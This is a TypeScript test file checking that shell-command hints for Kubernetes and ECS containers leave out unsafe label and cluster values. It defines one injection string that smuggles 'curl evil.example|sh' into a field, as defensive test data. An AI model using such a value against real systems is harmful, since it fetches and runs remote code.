/** Commands in hints: what a person pastes into a shell. */
import { describe, expect, it } from 'vitest';
import { taskHint } from '../../../adapters/cloudwatch/containers/consumers.ts';
import { noProcessesInside } from '../../../adapters/promql/hints.ts';
import { aResource } from '../../fixtures/builders.ts';

const NAMES = { 'k8s.namespace.name': 'shop', 'k8s.pod.name': 'api-7d9f8c6b5d-x2k9z', 'k8s.container.name': 'api' };
const HOSTILE = 'x; curl evil.example|sh #';

describe('a hint', () => {
  it('has the command that shows the processes of a container', () => {
    expect(noProcessesInside(aResource({ labels: NAMES }))).toContain(
      'kubectl exec -n shop api-7d9f8c6b5d-x2k9z -c api -- ps -eo rss,comm',
    );
  });

  it.each(Object.keys(NAMES))('has no text of a label that is no name in a command: %s', (label) => {
    const hint = noProcessesInside(aResource({ labels: { ...NAMES, [label]: HOSTILE } }));

    expect(hint).not.toContain('curl');
    expect(hint).toContain('kubectl exec with ps');
  });

  it('has no name of a cluster that is none in a command', () => {
    const hintOf = (cluster: string) => taskHint([{ Name: 'ClusterName', Value: cluster }]);

    expect(hintOf('prod')).toContain('--cluster prod ');
    expect(hintOf(HOSTILE)).toContain('--cluster CLUSTER ');
  });
});
